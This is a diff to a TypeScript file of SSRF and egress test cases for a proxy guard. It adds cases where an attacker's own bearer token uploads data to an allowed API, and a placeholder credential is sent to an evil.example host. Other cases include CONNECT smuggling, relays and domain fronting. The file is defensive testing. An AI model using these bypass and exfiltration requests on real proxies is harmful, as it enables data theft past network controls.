@@ -9,14 +9,14 @@ import type { EgressCase } from '../types.js';
 
 const authority = (url: string): string => (url.replace(/^[a-z]+:\/\//, '').split('/')[0] ?? '').replace(/^.*@/, '');
 
-const get = (id: string, description: string, url: string, host?: string, proxy: EgressCase['proxy'] = 'guard'): EgressCase => ({
+const get = (id: string, description: string, url: string, host?: string, proxy: EgressCase['proxy'] = 'guard', headers = ''): EgressCase => ({
   kind: 'egress',
   id,
   class: 'ssrf',
   description,
   expected: 'refused',
   proxy,
-  request: `GET ${url} HTTP/1.1\r\nHost: ${host ?? authority(url)}\r\nConnection: close\r\n\r\n`,
+  request: `GET ${url} HTTP/1.1\r\nHost: ${host ?? authority(url)}\r\n${headers}Connection: close\r\n\r\n`,
 });
 
 const connect = (id: string, description: string, target: string, after = '', proxy: EgressCase['proxy'] = 'guard'): EgressCase => ({
@@ -78,5 +78,9 @@ export const SSRF_CASES: readonly EgressCase[] = [
   connect('proxy-connect-wrong-port', 'CONNECT to an allowed host on another port', 'allowed.example:{P}', '', 'allowlist'),
   connect('proxy-connect-inner-host', 'CONNECT to the allowed target, then an inner request with another Host', 'allowed.example:{A}', 'GET / HTTP/1.1\r\nHost: evil.example:{P}\r\n\r\n', 'allowlist'),
   connect('proxy-connect-relay', 'CONNECT to the allowed target, then a raw non-TLS protocol (a relay)', 'allowed.example:{A}', 'SSH-2.0-OpenSSH_9.0\r\n', 'allowlist'),
+  get('proxy-own-credential', "bring one's own credential to an allowed API (upload to the attacker's account)", 'http://api.example:{A}/upload', undefined, 'allowlist', 'Authorization: Bearer attacker-own-token-1234567890\r\n'),
+  get('proxy-own-credential-query', "one's own token in a query parameter on an allowed API", 'http://api.example:{A}/upload?access_token=attacker-own-token-1234567890', undefined, 'allowlist'),
+  get('proxy-credential-echo', 'an allowed API that echoes the injected credential back (the secret must come back as the placeholder)', 'http://api.example:{A}/echo', undefined, 'allowlist', 'Authorization: Bearer rt-placeholder-credential\r\n'),
+  get('proxy-credential-other-host', 'the placeholder sent to a host the credential is not bound to, by userinfo and Host tricks', 'http://api.example.evil.example:{P}/', undefined, 'allowlist', 'Authorization: Bearer rt-placeholder-credential\r\n'),
   connect('proxy-connect-fronting', 'CONNECT to the allowed target with a TLS ClientHello whose SNI names another host (domain fronting)', 'allowed.example:{A}', '{CLIENTHELLO:evil.example}', 'allowlist'),
 ];
